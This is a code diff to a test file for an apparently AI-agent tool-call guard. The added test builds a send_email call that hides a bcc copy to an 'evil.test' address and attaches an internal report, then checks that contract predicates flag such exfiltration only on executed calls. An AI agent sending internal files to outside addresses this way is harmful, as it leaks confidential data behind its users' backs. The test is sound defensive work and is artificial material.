@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest';
 import { createEnvironment, parseFixture, type EnvironmentFixture } from '../../src/environment/index.ts';
+import { calledWith, equalsIgnoreCase, someElement, startsWith, type TraceCall } from '../../src/contract/index.ts';
 import { type ChokepointError, ChokepointErrors } from '../../src/errors.ts';
 import { expectError, expectOk } from './helpers.ts';
 
@@ -58,6 +59,22 @@ describe('mail with cc, bcc and attachments', () => {
     expectOk(env.execute({ tool: 'write_file', args: { path: '/reports/q2.txt', content: 'changed' } }));
     const sent = env.snapshot().emails.find((e) => e.id === 3);
     expect(sent).toMatchObject({ cc: ['a@books.test'], bcc: ['audit@books.test'], attachments: [{ name: 'q2.txt', content: 'Q2 revenue: 1.2M' }] });
+  });
+
+  it('argument-level predicates match cc, bcc and attachments like any other argument, on executed calls only', async () => {
+    const env = await createEnvironment(await fixture());
+    const args = { to: 'cfo@books.test', cc: ['a@books.test'], bcc: ['Audit@Evil.test'], subject: 'Q2', body: 'Attached.', attachments: ['/reports/q2.txt'] };
+    const result = expectOk(env.execute({ tool: 'send_email', args }));
+    const sent: TraceCall[] = [{ index: 0, tool: 'send_email', args, status: 'ok', result }];
+    const blocked: TraceCall[] = [{ index: 0, tool: 'send_email', args, status: 'blocked', decisions: [] }];
+    const hiddenCopy = calledWith('send_email', { bcc: someElement(equalsIgnoreCase('audit@evil.test')) });
+    const leaksReport = calledWith('send_email', { attachments: someElement(startsWith('/reports/')) });
+    expect([hiddenCopy.evaluate(sent).passed, leaksReport.evaluate(sent).passed]).toEqual([true, true]);
+    expect([hiddenCopy.evaluate(blocked).passed, leaksReport.evaluate(blocked).passed]).toEqual([false, false]);
+    expect(calledWith('send_email', { cc: someElement(equalsIgnoreCase('audit@evil.test')) }).evaluate(sent).passed).toBe(false);
+    // A plain mail has no such argument: the list matcher does not match what is absent.
+    const plain: TraceCall[] = [{ index: 0, tool: 'send_email', args: { to: 'x@books.test', subject: 's', body: 'b' }, status: 'ok', result: '' }];
+    expect(hiddenCopy.evaluate(plain).passed).toBe(false);
   });
 
   it('a plain send reads as it always did', async () => {
